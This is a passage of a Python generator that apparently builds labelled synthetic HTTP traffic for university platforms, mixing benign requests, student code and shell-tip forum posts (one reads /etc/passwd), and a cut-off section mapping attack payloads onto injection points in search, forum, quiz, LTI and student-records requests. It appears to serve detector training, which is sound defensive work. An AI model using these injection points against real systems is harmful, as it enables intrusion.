            ct, body = multipart(rng, [("file", "lough_neagh_%d.csv" % (2019 + i % 5), "text/csv", data_csv(rng)), ("name", "lough_neagh.csv")])
            c.add(rng, "benign", None, "deposit-csv", "POST", "repo", "/api/deposit/depositions/%d/files" % rng.randint(100000, 9999999),
                  body=body, ctype=ct, api=True, auth=auth)
        elif k == 2:
            c.add(rng, "benign", None, "repo-search", "GET", "repo", "/api/records",
                  raw_query=qs([("q", rng.choice(['creators.orcid:"%s"' % ORCIDS[i % 4], 'doi:"%s"' % DOIS[i % len(DOIS)],
                                                  'title:(ocean AND (temperature OR salinity)) -retracted', 'keywords:"CF-1.8" AND access_right:open'])),
                                ("sort", "mostrecent"), ("size", "20"), ("page", "1")]), api=True)
        elif k == 3:
            ct, body = multipart(rng, [("file", "sst_monthly.cdl", "text/plain", CDL), ("convert", "netcdf4")])
            c.add(rng, "benign", None, "cdl-upload", "POST", "repo", "/api/datasets/%d/files" % rng.randint(1, 9999),
                  body=body, ctype=ct, api=True, auth=auth)
        elif k == 4:
            c.add(rng, "benign", None, "doi-landing", "GET", "repo", "/doi/" + quote(DOIS[i % len(DOIS)], safe="/"), cookie="generic")
        else:
            crate = {"@context": "https://w3id.org/ro/crate/1.1/context",
                     "@graph": [{"@id": "ro-crate-metadata.json", "@type": "CreativeWork", "about": {"@id": "./"}},
                                {"@id": "./", "@type": "Dataset", "name": "Protein MSA benchmark v2", "license": {"@id": "https://spdx.org/licenses/CC-BY-4.0"},
                                 "author": {"@id": "https://orcid.org/" + ORCIDS[i % 4]}, "hasPart": [{"@id": "data/msa.fasta"}]},
                                {"@id": "https://orcid.org/" + ORCIDS[i % 4], "@type": "Person", "name": "Zoë Müller"}]}
            c.add(rng, "benign", None, "ro-crate", "POST", "repo", "/api/crates", body=json.dumps(crate, ensure_ascii=False),
                  ctype="application/ld+json", api=True, auth=auth)


def gen_sis(c, n=34):
    rng = rng_for("sis")
    for i in range(n):
        name = NAMES[i % len(NAMES)]
        k = i % 6
        sid = "S%07d" % rng.randint(0, 9999999)
        if k == 0:
            body = json.dumps({"student": {"id": sid, "legalName": name, "preferredName": name.split()[0],
                                           "address": {"line1": "Apt #%d, %d O'Connell St." % (rng.randint(1, 30), rng.randint(1, 200)),
                                                       "city": rng.choice(["Dublin", "Montréal", "São Paulo", "Köln"]), "postcode": rng.choice(["D01 F5P2", "H3A 0G4", "50667"])},
                                           "emergencyContact": {"name": rng.choice(NAMES), "phone": "+353 (0)1 %03d-%04d" % (rng.randint(0, 999), rng.randint(0, 9999))}}},
                              ensure_ascii=False)
            c.add(rng, "benign", None, "sis-profile", "PATCH", "sis", "/api/v2/students/" + sid, body=body,
                  ctype="application/json", cookie="generic", headers=[["X-XSRF-TOKEN", token(rng, 36)]])
        elif k == 1:
            c.add(rng, "benign", None, "sis-class-search", "GET", "sis", "/psc/CS/EMPLOYEE/SA/c/SSR_STUDENT_FL.SSR_CLSRCH_MAIN_FL.GBL",
                  raw_query=qs([("subject", rng.choice(COURSES)[0].split()[0]), ("catalog_nbr", "%d" % rng.randint(100, 499)),
                                ("strm", "2248"), ("keyword", rng.choice(["intro & survey", "Shakespeare's", "C++ / Java", "Machine Learning (grad)"]))]),
                  cookie="generic")
        elif k == 2:
            body = qs([("STUDENT_ID", sid), ("TERM", "2024FA"), ("CRN", str(rng.randint(10000, 99999))), ("ACTION", "ADD"),
                       ("REASON", "Instructor permission (email from Dr. O'Neill, 9/3)")])
            c.add(rng, "benign", None, "sis-enroll", "POST", "sis", "/StudentRegistrationSsb/ssb/classRegistration/submitRegistration/batch",
                  body=body, ctype="application/x-www-form-urlencoded; charset=UTF-8", cookie="generic")
        elif k == 3:
            body = json.dumps({"courseSection": "%s-00%d" % (rng.choice(COURSES)[0], rng.randint(1, 3)), "studentId": sid,
                               "oldGrade": rng.choice(["I", "B", "C+"]), "newGrade": rng.choice(["A-", "B+", "P"]),
                               "reason": "Incomplete resolved -- final project submitted 12/20; see memo re: \"extenuating circumstances\"."})
            c.add(rng, "benign", None, "sis-grade-change", "POST", "sis", "/api/v2/grade-changes", body=body,
                  ctype="application/json", api=True, auth="Bearer " + fake_jwt(rng, {"sub": "registrar", "roles": ["faculty"]}))
        elif k == 4:
            c.add(rng, "benign", None, "sis-directory", "GET", "sis", "/directory/search",
                  raw_query=qs([("name", rng.choice(["O'Brien", "Ó Briain", "D'Angelo", "St. John", "Al-Zahra", "McAllister"])),
                                ("affiliation", rng.choice(["student", "faculty", "staff"])), ("dept", "Chemistry & Biochemistry")]),
                  cookie="generic")
        else:
            body = qs([("studentId", sid), ("recipient", "Admissions Office, Trinity College Dublin"),
                       ("delivery", "electronic"), ("email", "admissions@tcd.example.ie"),
                       ("notes", "Please include Fall '24 grades (in progress) & degree audit.")])
            c.add(rng, "benign", None, "sis-transcript", "POST", "sis", "/transcripts/request", body=body,
                  ctype="application/x-www-form-urlencoded", cookie="generic")


# --------------------------------------------------------------------------
# Benign: online judge and JupyterHub (non-code traffic), page browsing
# --------------------------------------------------------------------------

def gen_judge(c, n=18):
    rng = rng_for("judge")
    for i in range(n):
        k = i % 4
        auth = "Bearer " + fake_jwt(rng, {"sub": "u%d" % rng.randint(1, 99999), "course": "CS 101"}, "HS256")
        if k == 0:
            c.add(rng, "benign", None, "judge-problems", "GET", "judge", "/api/problems",
                  raw_query=qs([("tag", rng.choice(["dp", "graphs", "greedy", "two-pointers", "strings & parsing"])),
                                ("difficulty", rng.choice(["easy", "medium", "hard"])), ("q", rng.choice(["longest common subsequence", "Dijkstra's", "N-Queens", "A+B"])),
                                ("page", str(rng.randint(1, 9)))]), api=True, auth=auth)
        elif k == 1:
            c.add(rng, "benign", None, "judge-status", "GET", "judge", "/api/submissions/%d" % rng.randint(100000, 9999999),
                  raw_query="fields=verdict,time_ms,memory_kb,testcases", api=True, auth=auth)
        elif k == 2:
            body = json.dumps({"problem": rng.randint(1, 3000), "title": "Clarification: is n ≤ 10^5 or n < 10^5?",
                               "body": "Constraints say $1 \\le n \\le 10^5$ but sample 3 has n = 100001?! Also, are the edges (u, v) 0- or 1-indexed?"}, ensure_ascii=False)
            c.add(rng, "benign", None, "judge-clarify", "POST", "judge", "/api/clarifications", body=body,
                  ctype="application/json", api=True, auth=auth)
        else:
            c.add(rng, "benign", None, "judge-scoreboard", "GET", "judge", "/contests/%d/scoreboard" % rng.randint(1, 400),
                  raw_query=qs([("division", rng.choice(["1", "2"])), ("affiliation", "Queen's University"), ("frozen", "false")]),
                  cookie="generic")


MD_CELLS = [
    "# Lab 4: Hypothesis testing\n\nWe test $H_0: \\mu = 0$ against $H_1: \\mu \\neq 0$ at $\\alpha = 0.05$.",
    "## Results\n\n| group | n | mean | sd |\n|---|---|---|---|\n| control | 30 | 4.1 | 1.2 |\n| treated | 28 | 5.3 | 1.4 |",
    "**Note:** the $p$-value is *not* $P(H_0 \\mid \\text{data})$ -- see Wasserstein & Lazar (2016).",
    "### Q3\nExplain in 2-3 sentences why the variance estimator divides by $n-1$.",
]


def gen_hub(c, n=18):
    rng = rng_for("hub")
    for i in range(n):
        user = rng.choice(["aobrien", "zmuller", "cwei", "pramaswamy", "lioconnor"])
        k = i % 5
        tok = "token " + token(rng, 32, "0123456789abcdef")
        if k == 0:
            c.add(rng, "benign", None, "hub-users", "GET", "hub", "/hub/api/users/" + user, api=True, auth=tok)
        elif k == 1:
            c.add(rng, "benign", None, "hub-spawn", "POST", "hub", "/hub/api/users/%s/server" % user,
                  body=json.dumps({"profile": rng.choice(["datascience-cpu", "gpu-small", "r-tidyverse"]), "image": "jupyter/scipy-notebook:2024-04-01"}),
                  ctype="application/json", api=True, auth=tok)
        elif k == 2:
            c.add(rng, "benign", None, "hub-contents", "GET", "hub", "/user/%s/api/contents/%s" % (user, quote("Week 4 (stats)/lab4.ipynb")),
                  raw_query="content=1&type=notebook&_=%d" % (1714000000000 + i), cookie="hub",
                  headers=[["X-XSRFToken", token(rng, 40)]])
        elif k == 3:
            nb = {"cells": [{"cell_type": "markdown", "metadata": {}, "source": MD_CELLS[(i + j) % len(MD_CELLS)].splitlines(True)} for j in range(2)],
                  "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3 (ipykernel)", "language": "python"}},
                  "nbformat": 4, "nbformat_minor": 5}
            c.add(rng, "benign", None, "hub-save-md", "PUT", "hub", "/user/%s/api/contents/%s" % (user, quote("notes/reading-notes.ipynb")),
                  body=json.dumps({"type": "notebook", "format": "json", "content": nb}), ctype="text/plain;charset=UTF-8",
                  cookie="hub", headers=[["X-XSRFToken", token(rng, 40)]])
        else:
            c.add(rng, "benign", None, "hub-sessions", "POST", "hub", "/user/%s/api/sessions" % user,
                  body=json.dumps({"path": "Week 4 (stats)/lab4.ipynb", "name": "lab4.ipynb", "type": "notebook", "kernel": {"name": "python3"}}),
                  ctype="application/json", cookie="hub", headers=[["X-XSRFToken", token(rng, 40)]])


def gen_browse(c, n=52):
    rng = rng_for("browse")
    pages = [
        ("moodle", "/course/view.php", [("id", "42"), ("section", "3")]),
        ("moodle", "/mod/resource/view.php", [("id", "1187")]),
        ("moodle", "/pluginfile.php/5521/mod_resource/content/2/Lecture%2007%20-%20Entropy%20%26%20the%202nd%20Law.pdf", None),
        ("moodle", "/login/index.php", None),
        ("moodle", "/calendar/view.php", [("view", "month"), ("time", "1714000000"), ("course", "1")]),
        ("moodle", "/mod/forum/search.php", [("id", "42"), ("search", "\"Bayes' theorem\" -homework")]),
        ("moodle", "/auth/saml2/login.php", [("wants", "https://moodle.uni-example.edu/course/view.php?id=42"), ("idp", "a1b2c3"), ("passive", "off")]),
        ("canvas", "/courses/1234/files/folder/Lectures%20(Fall%202024)", None),
        ("canvas", "/courses/1234/grades", None),
        ("canvas", "/calendar", [("include_contexts", "course_1234,user_77"), ("month", "10"), ("year", "2024")]),
        ("edx", "/courses/course-v1:HarvardX+CS50P+2024/courseware", None),
        ("edx", "/search/", [("q", "statistics & probability"), ("org", "MITx")]),
        ("library", "/Record/in00004512345", None),
        ("library", "/Author/Home", [("author", "García Márquez, Gabriel, 1927-2014")]),
        ("repo", "/records/7654321/files/data.csv", [("download", "1")]),
        ("repo", "/communities/limnology/search", [("q", "lake* AND (nitrate OR \"NO3-N\")"), ("l", "list")]),
        ("wiki", "/wiki/L%27H%C3%B4pital%27s_rule", None),
        ("wiki", "/index.php", [("search", "Cauchy–Schwarz inequality"), ("title", "Special:Search"), ("go", "Go")]),
        ("sis", "/degree-audit/what-if", [("program", "BSc Chemistry (Hons)"), ("catalog_year", "2023-24"), ("minor", "Math & Stats")]),
        ("judge", "/problems/1042", [("lang", "en")]),
    ]
    for i in range(n):
        host, path, params = pages[i % len(pages)]
        h = [["Referer", "https://%s/my/" % HOSTS[host]]] if i % 3 else []
        h.append(["Upgrade-Insecure-Requests", "1"])
        c.add(rng, "benign", None, "page-view", "GET", host, path,
              raw_query=(qs(params) if i % 2 == 0 else qs_pct(params)) if params else None,
              cookie={"moodle": "moodle", "canvas": "canvas", "edx": "edx"}.get(host, "generic"), headers=h)


# --------------------------------------------------------------------------
# Dev-content: code submissions, notebooks, SQL exercises, shell in forums
# --------------------------------------------------------------------------

CODE = {
    "c": [
        '#include <stdio.h>\n#include <string.h>\n\nint main(void) {\n    char buf[256];\n    while (fgets(buf, sizeof buf, stdin)) {\n'
        '        buf[strcspn(buf, "\\n")] = \'\\0\';\n        printf("%s\\n", buf);\n    }\n    return 0;\n}\n',
        '#include <stdlib.h>\n#include <unistd.h>\n#include <sys/wait.h>\n/* Lab 5: fork/exec -- run "ls -l" in the child */\nint main(void) {\n'
        '    pid_t pid = fork();\n    if (pid == 0) { execlp("ls", "ls", "-l", (char *)NULL); _exit(127); }\n    int status; waitpid(pid, &status, 0);\n'
        '    return WEXITSTATUS(status);\n}\n',
        '#include <stdio.h>\nlong long dp[100001];\nint main(){int n;scanf("%d",&n);dp[0]=1;dp[1]=1;\nfor(int i=2;i<=n;i++)dp[i]=(dp[i-1]+dp[i-2])%1000000007LL;\nprintf("%lld\\n",dp[n]);return 0;}\n',
    ],
    "python": [
        'import sys\nfrom collections import defaultdict\n\ndef main():\n    data = sys.stdin.read().split()\n    n = int(data[0])\n    adj = defaultdict(list)\n'
        '    for i in range(n - 1):\n        u, v = int(data[1 + 2*i]), int(data[2 + 2*i])\n        adj[u].append(v); adj[v].append(u)\n    print(len(adj))\n\nif __name__ == "__main__":\n    main()\n',
        'import subprocess\n\n# Exercise 3: call the system sort and compare with sorted()\nout = subprocess.run(["sort", "-n"], input="3\\n1\\n2\\n", capture_output=True, text=True).stdout\n'
        'assert out.split() == ["1", "2", "3"], out\nprint("ok")\n',
        'import os\nimport pandas as pd\n\ndf = pd.read_csv(os.path.join("data", "grades.csv"))\nprint(df.groupby("section")["score"].agg(["mean", "std"]).round(2))\n',
        'def eval_rpn(tokens):\n    st = []\n    for t in tokens:\n        if t in "+-*/":\n            b, a = st.pop(), st.pop()\n            st.append(eval(f"{a}{t}{b}"))\n'
        '        else:\n            st.append(int(t))\n    return st[-1]\n',
    ],
    "java": [
        'import java.util.*;\nimport java.io.*;\n\npublic class Main {\n    public static void main(String[] args) throws IOException {\n'
        '        BufferedReader br = new BufferedReader(new InputStreamReader(System.in));\n        int n = Integer.parseInt(br.readLine().trim());\n'
        '        Map<String, Integer> freq = new HashMap<>();\n        for (String w : br.readLine().split("\\\\s+")) freq.merge(w, 1, Integer::sum);\n'
        '        System.out.println(freq);\n    }\n}\n',
        'public class Runner {\n    // Lab 7: ProcessBuilder demo\n    public static void main(String[] a) throws Exception {\n'
        '        Process p = new ProcessBuilder("javac", "-version").redirectErrorStream(true).start();\n        System.out.println(new String(p.getInputStream().readAllBytes()));\n    }\n}\n',
    ],
    "bash": [
        '#!/usr/bin/env bash\nset -euo pipefail\n# count words per file, sorted\nfor f in "$@"; do\n  printf "%s\\t%s\\n" "$(wc -w < "$f")" "$f"\ndone | sort -rn | head -n 5\n',
        '#!/bin/bash\n# HW2 Q4: find the 3 largest files under $1\nfind "${1:-.}" -type f -printf "%s %p\\n" 2>/dev/null | sort -nr | head -3\n',
    ],
    "sql": [
        "SELECT s.name, AVG(g.grade) AS avg_grade\nFROM students s\nJOIN grades g ON g.student_id = s.id\nWHERE g.term = '2024FA'\nGROUP BY s.name\nHAVING AVG(g.grade) > 85\nORDER BY avg_grade DESC;\n",
        "SELECT name FROM instructor WHERE dept_name = 'Comp. Sci.'\nUNION\nSELECT name FROM student WHERE tot_cred > 100;\n",
    ],
}
LANG_IDS = {"c": ("c", "gcc-13", "main.c"), "python": ("python3", "cpython-3.12", "solution.py"),
            "java": ("java", "openjdk-21", "Main.java"), "bash": ("bash", "bash-5.2", "script.sh"), "sql": ("sql", "postgres-16", "query.sql")}


def gen_dev_judge(c, n=20):
    rng = rng_for("dev_judge")
    flat = [(lang, src) for lang in CODE for src in CODE[lang]]
    for i in range(n):
        lang, src = flat[i % len(flat)]
        lid, compiler, fname = LANG_IDS[lang]
        auth = "Bearer " + fake_jwt(rng, {"sub": "u%d" % rng.randint(1, 99999)}, "HS256")
        if i % 3 == 2:
            ct, body = multipart(rng, [("problem_id", str(rng.randint(1, 3000))), ("language", lid),
                                       ("source", fname, "text/x-" + lang, src), ("csrfmiddlewaretoken", token(rng, 64))])
            c.add(rng, "dev-content", None, "judge-multipart", "POST", "judge", "/submit", body=body, ctype=ct, cookie="generic")
        elif i % 3 == 1:
            body = json.dumps({"assignment": "hw%d" % rng.randint(1, 9), "files": [{"name": fname, "content": src}],
                               "runtime": compiler, "tests": "all"})
            c.add(rng, "dev-content", None, "grader-json", "POST", "grader", "/api/v1/submissions", body=body,
                  ctype="application/json", api=True, auth=auth)
        else:
            body = json.dumps({"source_code": src, "language_id": rng.choice([50, 54, 62, 71, 46, 82]), "stdin": "5\n1 2\n2 3\n3 4\n4 5\n",
                               "expected_output": "5\n", "cpu_time_limit": 2})
            c.add(rng, "dev-content", None, "judge0-json", "POST", "judge", "/submissions",
                  raw_query="base64_encoded=false&wait=false", body=body, ctype="application/json", api=True, auth=auth)


NB_CODE = [
    "import numpy as np\nimport matplotlib.pyplot as plt\nx = np.linspace(0, 2*np.pi, 200)\nplt.plot(x, np.sin(x)); plt.title(r'$\\sin(x)$')\nplt.show()",
    "import pandas as pd\ndf = pd.read_csv('data/penguins.csv')\ndf.query(\"species == 'Adelie' and bill_length_mm > 40\").describe()",
    "!pip install --quiet scikit-learn==1.4.2\nfrom sklearn.linear_model import LogisticRegression",
    "%%bash\nls -la data/ | head\nwc -l data/*.csv",
    "import os\nprint(os.getcwd(), os.listdir('.'))",
    "from scipy import stats\nt, p = stats.ttest_ind(control, treated, equal_var=False)\nprint(f'{t=:.3f}, {p=:.4f}')",
    "%load_ext sql\n%sql sqlite:///course.db\n%sql SELECT * FROM enrolments WHERE grade IS NULL LIMIT 5;",
    "from rdkit import Chem\nm = Chem.MolFromSmiles('CC(=O)Oc1ccccc1C(=O)O')\nChem.Descriptors.MolWt(m)",
]


def gen_dev_jupyter(c, n=14):
    rng = rng_for("dev_jupyter")
    for i in range(n):
        user = rng.choice(["aobrien", "zmuller", "cwei", "pramaswamy"])
        code = NB_CODE[i % len(NB_CODE)]
        if i % 2 == 0:
            nb = {"cells": [{"cell_type": "markdown", "metadata": {}, "source": ["## Exercise %d" % (i + 1)]},
                            {"cell_type": "code", "execution_count": i + 1, "metadata": {}, "outputs": [], "source": code.splitlines(True)}],
                  "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}, "nbformat": 4, "nbformat_minor": 5}
            c.add(rng, "dev-content", None, "notebook-save", "PUT", "hub", "/user/%s/api/contents/%s" % (user, quote("labs/lab%d.ipynb" % (i + 1))),
                  body=json.dumps({"type": "notebook", "format": "json", "content": nb}), ctype="application/json",
                  cookie="hub", headers=[["X-XSRFToken", token(rng, 40)]])
        else:
            body = json.dumps({"code": code, "silent": False, "store_history": True, "user_expressions": {}, "allow_stdin": False, "stop_on_error": True})
            c.add(rng, "dev-content", None, "kernel-execute", "POST", "hub",
                  "/user/%s/api/kernels/%s/execute" % (user, "%08x-%04x-%04x-%04x-%012x" % (rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(16), rng.getrandbits(16), rng.getrandbits(48))),
                  body=body, ctype="application/json", api=True, auth="token " + token(rng, 32, "0123456789abcdef"))


SQL_EXERCISES = [
    "SELECT c.title, COUNT(*) AS n\nFROM takes t JOIN course c ON c.course_id = t.course_id\nGROUP BY c.title\nORDER BY n DESC\nLIMIT 10;",
    "CREATE TABLE advisor (\n  s_id VARCHAR(5) PRIMARY KEY,\n  i_id VARCHAR(5) REFERENCES instructor(id) ON DELETE SET NULL\n);",
    "DROP TABLE IF EXISTS temp_scores;\nCREATE TEMP TABLE temp_scores AS SELECT id, score FROM exam WHERE score >= 50;",
    "SELECT name FROM student s WHERE NOT EXISTS (\n  SELECT course_id FROM course WHERE dept_name = 'Biology'\n  EXCEPT\n  SELECT course_id FROM takes t WHERE t.id = s.id);",
    "UPDATE instructor SET salary = salary * 1.05 WHERE salary < (SELECT AVG(salary) FROM instructor);",
    "SELECT dept_name, SUM(credits) FILTER (WHERE grade <> 'F') OVER (PARTITION BY dept_name) FROM takes NATURAL JOIN course;",
    "INSERT INTO student (id, name, dept_name, tot_cred) VALUES ('00128', 'O''Brien', 'Comp. Sci.', 102);",
    "SELECT * FROM section WHERE semester = 'Fall' AND year = 2024 OR building LIKE 'Wat%';",
]
SHELL_POSTS = [
    "<p>To see which users exist just run <code>cut -d: -f1 /etc/passwd | sort</code> -- that's what Q2 wants.</p>",
    "<p>My fix for the permissions question:</p><pre>chmod 755 ~/bin/backup.sh\nchown $USER:$USER ~/bin/backup.sh\nls -l ~/bin</pre>",
    "<p>Use <code>grep -rn \"TODO\" src/ | wc -l</code> to count them; add <code>2&gt;/dev/null</code> to hide the permission errors.</p>",
    "<p>For the cron part: <code>*/15 * * * * /usr/bin/rsync -az ~/thesis/ backup:thesis/ &gt;&gt; ~/rsync.log 2&gt;&amp;1</code></p>",
    "<pre>$ ps aux | grep [s]shd\n$ sudo systemctl status sshd\n$ journalctl -u sshd --since today</pre><p>That's how I found it.</p>",
    "<p>Pipes vs. redirection: <code>ls -l | tee out.txt</code> vs. <code>ls -l &gt; out.txt</code>. And <code>$(date +%F)</code> gives today's date.</p>",
    "<p>Q: why does <code>for f in *.txt; do mv \"$f\" \"${f%.txt}.md\"; done</code> fail on names with spaces? A: it doesn't if you quote!</p>",
    "<p>Week 6 tip: <code>find / -name '*.conf' -newer /etc/hosts 2&gt;/dev/null | xargs ls -la</code></p>",
]


def gen_dev_sql_shell(c, n=16):
    rng = rng_for("dev_sql_shell")
    for i in range(n):
        if i % 2 == 0:
            sql = SQL_EXERCISES[(i // 2) % len(SQL_EXERCISES)]
            body = json.dumps({"exercise": "db-lab-%d" % rng.randint(1, 12), "dialect": "postgresql", "query": sql})
            c.add(rng, "dev-content", None, "sql-exercise", "POST", "grader", "/api/v1/sql/check", body=body,
                  ctype="application/json", cookie="generic", headers=[["X-CSRF-Token", token(rng, 32)]])
        else:
            post = SHELL_POSTS[(i // 2) % len(SHELL_POSTS)]
            fields = [("course", str(rng.randint(2, 800))), ("forum", str(rng.randint(1, 300))), ("sesskey", sesskey(rng)),
                      ("_qf__mod_forum_post_form", "1"), ("subject", "Re: Linux lab %d" % rng.randint(1, 10)),
                      ("message[text]", post), ("message[format]", "1"), ("submitbutton", "Post to forum")]
            c.add(rng, "dev-content", None, "linux-forum", "POST", "moodle", "/mod/forum/post.php",
                  body=qs(fields), ctype="application/x-www-form-urlencoded", cookie="moodle")


BENIGN_GENS = [gen_moodle_quiz, gen_moodle_forum, gen_moodle_ws, gen_canvas, gen_gradebook, gen_edx, gen_lti,
               gen_xapi, gen_scorm, gen_math, gen_chem, gen_bio, gen_library, gen_cite, gen_survey, gen_repo,
               gen_sis, gen_judge, gen_hub, gen_browse]
DEV_GENS = [gen_dev_judge, gen_dev_jupyter, gen_dev_sql_shell]


# --------------------------------------------------------------------------
# Attacks: injection points of the domain
# --------------------------------------------------------------------------

def jesc(obj):
    """JSON with <, >, &, ' written as \\u escapes (as many JS serialisers do)."""
    s = json.dumps(obj)
    for ch, esc in (("<", "\\u003c"), (">", "\\u003e"), ("&", "\\u0026"), ("'", "\\u0027")):
        s = s.replace(ch, esc)
    return s


def p_catalog(c, rng, cat, p):
    c.add(rng, cat, None, "catalog-search", "GET", "library", "/Search/Results",
          raw_query=qs([("lookfor", p), ("type", "AllFields"), ("limit", "20")]), cookie="generic")


def p_catalog_pct(c, rng, cat, p):
    c.add(rng, cat, None, "catalog-api", "GET", "library", "/api/v1/search",
          raw_query="q=" + quote(p, safe="") + "&facet=subject", api=True)


def p_sru(c, rng, cat, p):
    c.add(rng, cat, None, "sru", "GET", "library", "/sru",
          raw_query=qs_pct([("version", "1.2"), ("operation", "searchRetrieve"), ("query", p), ("maximumRecords", "10")]),
          api=True, accept="application/xml")


def p_ws_get(c, rng, cat, p):
    c.add(rng, cat, None, "moodle-ws", "GET", "moodle", "/webservice/rest/server.php",
          raw_query=qs([("wstoken", token(rng, 32, "0123456789abcdef")), ("wsfunction", "core_course_get_contents"),
                        ("moodlewsrestformat", "json"), ("courseid", p)]), api=True)


def p_ws_post(c, rng, cat, p):
    c.add(rng, cat, None, "moodle-ws-post", "POST", "moodle", "/webservice/rest/server.php",
          query=[("wstoken", token(rng, 32, "0123456789abcdef")), ("wsfunction", "core_user_get_users_by_field"), ("moodlewsrestformat", "json")],
          body=qs([("field", "username"), ("values[0]", p)]), ctype="application/x-www-form-urlencoded", api=True)


def p_quiz(c, rng, cat, p):
    q, slot = rng.randint(100, 9999), rng.randint(1, 20)
    body = qs([("attempt", str(rng.randint(10000, 99999))), ("thispage", "0"), ("nextpage", "1"), ("sesskey", sesskey(rng)),
               ("slots", str(slot)), ("q%d:%d_:sequencecheck" % (q, slot), "1"), ("q%d:%d_answer" % (q, slot), p), ("next", "Next page")])
    c.add(rng, cat, None, "moodle-quiz", "POST", "moodle", "/mod/quiz/processattempt.php", query=[("cmid", str(rng.randint(100, 5000)))],
          body=body, ctype="application/x-www-form-urlencoded", cookie="moodle", headers=[["Origin", "https://" + HOSTS["moodle"]]])


def p_forum(c, rng, cat, p):
    body = qs([("course", str(rng.randint(2, 800))), ("forum", str(rng.randint(1, 300))), ("sesskey", sesskey(rng)),
               ("_qf__mod_forum_post_form", "1"), ("subject", "Re: Week %d discussion" % rng.randint(1, 14)),
               ("message[text]", p), ("message[format]", "1"), ("submitbutton", "Post to forum")])
    c.add(rng, cat, None, "moodle-forum", "POST", "moodle", "/mod/forum/post.php", body=body,
          ctype="application/x-www-form-urlencoded", cookie="moodle", headers=[["Origin", "https://" + HOSTS["moodle"]]])


def p_forum_subject(c, rng, cat, p):
    body = qs([("course", str(rng.randint(2, 800))), ("forum", str(rng.randint(1, 300))), ("sesskey", sesskey(rng)),
               ("subject", p), ("message[text]", "<p>see title</p>"), ("message[format]", "1"), ("submitbutton", "Post to forum")])
    c.add(rng, cat, None, "moodle-forum-subject", "POST", "moodle", "/mod/forum/post.php", body=body,
          ctype="application/x-www-form-urlencoded", cookie="moodle")


def p_canvas_json(c, rng, cat, p):
    c.add(rng, cat, None, "canvas-discussion", "POST", "canvas",
          "/api/v1/courses/%d/discussion_topics/%d/entries" % (rng.randint(1000, 99999), rng.randint(1, 99999)),
          body=json.dumps({"message": p}), ctype="application/json", cookie="canvas",
          headers=[["X-CSRF-Token", token(rng, 44)], ["X-Requested-With", "XMLHttpRequest"]])


def p_canvas_json_u(c, rng, cat, p):
    c.add(rng, cat, None, "canvas-page-u", "PUT", "canvas",
          "/api/v1/courses/%d/pages/syllabus-notes" % rng.randint(1000, 99999),
          body=jesc({"wiki_page": {"title": "Syllabus notes", "body": p, "published": True}}), ctype="application/json",
          api=True, auth=canvas_auth(rng))


def p_canvas_search(c, rng, cat, p):
    c.add(rng, cat, None, "canvas-search", "GET", "canvas", "/api/v1/courses/%d/users" % rng.randint(1000, 99999),
          raw_query=qs_pct([("search_term", p), ("enrollment_type[]", "student")]), api=True, auth=canvas_auth(rng))


def p_canvas_sort(c, rng, cat, p):
    c.add(rng, cat, None, "canvas-sort", "GET", "canvas", "/api/v1/courses/%d/gradebook_history/feed" % rng.randint(1000, 99999),
          raw_query="order_by=" + quote(p, safe="()*,") + "&per_page=100", api=True, auth=canvas_auth(rng))


def p_sis_json(c, rng, cat, p):
    c.add(rng, cat, None, "sis-json", "POST", "sis", "/api/v2/students/search",
          body=json.dumps({"filter": {"lastName": p, "term": "2024FA"}, "limit": 25}), ctype="application/json",
          cookie="generic", headers=[["X-XSRF-TOKEN", token(rng, 36)]])


def p_sis_dir(c, rng, cat, p):
    c.add(rng, cat, None, "sis-directory", "GET", "sis", "/directory/search",
          raw_query=qs([("name", p), ("affiliation", "student")]), cookie="generic")


def p_sis_transcript(c, rng, cat, p):
    c.add(rng, cat, None, "sis-transcript", "GET", "sis", "/transcripts/view",
          raw_query="studentId=" + p + "&term=2024FA", cookie="generic")


def p_judge_q(c, rng, cat, p):
    c.add(rng, cat, None, "judge-problems", "GET", "judge", "/api/problems",
          raw_query=qs([("tag", "dp"), ("sort", p)]), api=True, auth="Bearer " + token(rng, 40))


def p_repo_q(c, rng, cat, p):
    c.add(rng, cat, None, "repo-search", "GET", "repo", "/api/records",
          raw_query=qs([("q", p), ("sort", "mostrecent"), ("size", "20")]), api=True)


def p_lti11(c, rng, cat, p, field="lis_person_name_full"):
    fields = [("lti_message_type", "basic-lti-launch-request"), ("lti_version", "LTI-1p0"),
              ("resource_link_id", token(rng, 32, "0123456789abcdef")), ("user_id", token(rng, 32, "0123456789abcdef")),
              ("roles", "Learner"), ("context_id", token(rng, 40, "0123456789abcdef")), ("context_title", "PHYS 201"),
              ("lis_person_name_full", "Liam O'Connor"), ("custom_assignment", "lab-3"),
              ("oauth_consumer_key", "uni-example"), ("oauth_signature_method", "HMAC-SHA1"),
              ("oauth_timestamp", "1714000000"), ("oauth_nonce", token(rng, 32)), ("oauth_version", "1.0")]
    fields = [(k, p if k == field else v) for k, v in fields]
    fields.append(("oauth_signature", base64.b64encode(bytes(rng.randrange(256) for _ in range(20))).decode()))
    c.add(rng, cat, None, "lti-launch", "POST", "lti", "/lti/launch", body=qs(fields), ctype="application/x-www-form-urlencoded",
          headers=[["Origin", "https://" + HOSTS["canvas"]]])


def p_lti_custom(c, rng, cat, p):
    p_lti11(c, rng, cat, p, "custom_assignment")


def p_edx_problem(c, rng, cat, p):
    block = token(rng, 32, "0123456789abcdef")
    c.add(rng, cat, None, "edx-problem", "POST", "edx",
          "/courses/course-v1:UniX+CHEM101+Fall2024/xblock/block-v1:UniX+CHEM101+Fall2024+type@problem+block@%s/handler/xmodule_handler/problem_check" % block,
          body=qs([("input_%s_2_1" % block, p)]), ctype="application/x-www-form-urlencoded; charset=UTF-8", cookie="edx",
          headers=[["X-CSRFToken", token(rng, 32)], ["X-Requested-With", "XMLHttpRequest"]])


def p_survey(c, rng, cat, p):
    sid = rng.randint(100000, 999999)
    c.add(rng, cat, None, "limesurvey", "POST", "survey", "/index.php/%d" % sid,
          body=qs([("sid", str(sid)), ("%dX%dX%d" % (sid, rng.randint(1, 40), rng.randint(1, 400)), p), ("move", "movenext"),
                   ("YII_CSRF_TOKEN", token(rng, 40))]), ctype="application/x-www-form-urlencoded", cookie="generic")


def p_chem(c, rng, cat, p):
    c.add(rng, cat, None, "chem-search", "GET", "chem", "/api/compounds/search",
          raw_query=qs_pct([("smiles", p), ("type", "substructure")]), api=True)


def p_xapi_agent(c, rng, cat, p):
